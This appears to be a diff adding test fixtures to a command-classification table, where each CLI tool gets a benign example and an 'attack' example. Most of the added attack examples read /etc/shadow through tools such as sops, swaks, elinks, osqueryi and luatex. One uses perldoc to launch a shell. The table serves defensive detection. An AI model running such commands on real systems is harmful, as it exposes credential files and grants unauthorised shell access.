@@ -53,4 +53,41 @@ export const ownLanguages: ExampleTable = {
     use: 'yad --text-info --filename=notes.txt → read notes.txt',
     attack: 'yad --form --button=go:/tmp/x → run /tmp/x',
   },
+  'sops exec-env': {
+    use: "sops exec-env secrets.yaml 'npm start' → nothing",
+    attack: "sops exec-env secrets.yaml 'cat /etc/shadow' → read /etc/shadow",
+  },
+  'sops exec-file': {
+    use: "sops exec-file secrets.yaml 'wc -l notes.txt' → use notes.txt",
+    attack: "sops exec-file secrets.yaml 'cat /etc/shadow' → read /etc/shadow",
+  },
+  swaks: {
+    use: 'swaks --to me@example.org --server mail.example.org --attach @report.txt → read report.txt',
+    attack:
+      'swaks --to a@example.org --server mail.example.org --attach /etc/shadow → read /etc/shadow',
+  },
+  elinks: {
+    use: 'elinks -dump https://example.org/ → fetch https://example.org/',
+    attack: 'elinks -dump /etc/shadow → read /etc/shadow',
+  },
+  gosh: {
+    use: "gosh -e '(display 1)' → nothing",
+    attack: 'gosh -e \'(sys-system "cat /etc/shadow")\' → read /etc/shadow',
+  },
+  pic: {
+    use: 'pic flow.pic → read flow.pic',
+    attack: 'pic /etc/shadow → read /etc/shadow',
+  },
+  osqueryi: {
+    use: 'osqueryi "select name from os_version" → nothing',
+    attack: 'osqueryi ".read /etc/shadow" → read /etc/shadow',
+  },
+  luatex: {
+    use: 'luatex --luaonly tools/map.lua → read tools/map.lua',
+    attack: 'luatex --luaonly /etc/shadow → read /etc/shadow',
+  },
+  perldoc: {
+    use: 'perldoc -f open → nothing',
+    attack: 'perldoc -T -n /bin/sh open → shell sh',
+  },
 }
